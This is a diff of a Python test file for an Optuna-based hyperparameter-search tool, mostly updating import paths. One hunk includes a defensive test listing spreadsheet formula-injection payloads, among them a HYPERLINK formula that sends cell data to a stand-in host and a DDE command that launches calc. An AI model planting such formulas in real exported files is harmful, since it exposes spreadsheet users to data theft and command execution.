@@ -12,8 +12,8 @@ import pytest
 from rich.console import Console
 
 from hpo import load_study
-from hpo.study import run_study
-from hpo.tables import add_scores, studies_frame, trials_frame, zscore
+from hpo.results.tables import add_scores, studies_frame, trials_frame, zscore
+from hpo.study.loop import run_study
 
 quiet = Console(quiet=True)
 CHROMIUM = "/usr/bin/chromium"
@@ -260,7 +260,7 @@ def test_ties_and_diverged_values_rank_as_hpo_best_picks():
     import optuna
     from optuna.trial import create_trial
 
-    from hpo.storage import best_trial
+    from hpo.study.storage import best_trial
 
     tied = optuna.create_study(direction="maximize")
     tied.set_user_attr("config", {"task": "sequence-classification", "objective": {"metric": "eval_accuracy"}})
@@ -285,7 +285,7 @@ def test_the_same_metric_of_two_tasks_is_not_compared():
     clf = _study("clf", "sequence-classification", "eval_loss", "minimize", [0.7, 0.6])
     trials = trials_frame([lm, clf])
     assert trials.groupby("study")["rank"].apply(sorted).to_dict() == {"clf": [1, 2], "lm": [1, 2]}
-    from hpo.tables import by_group
+    from hpo.results.tables import by_group
 
     assert [label for label, _ in by_group(trials)] == [
         "task=causal-lm, metric=eval_loss, direction=minimize",
@@ -312,7 +312,7 @@ def test_pruned_trials_are_listed_unranked_unless_asked():
 def test_report_ranks_each_objective_apart(write_study, tmp_path):
     # Real studies: one minimizes eval_loss (a good trial, then one that cannot learn and is pruned),
     # one maximizes eval_f1_macro.
-    from hpo.storage import open_study
+    from hpo.study.storage import open_study
 
     loss = write_study(
         "loss.yaml",
@@ -376,7 +376,7 @@ def test_csv_cells_a_spreadsheet_would_run_are_neutralized(tmp_path):
     from optuna.distributions import CategoricalDistribution, FloatDistribution
     from optuna.trial import create_trial
 
-    from hpo.tables import write_csv
+    from hpo.results.tables import write_csv
 
     hostile = ['=HYPERLINK("http://x.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "＝1"]
     choice = CategoricalDistribution(hostile + ["-0.5", "plain"])
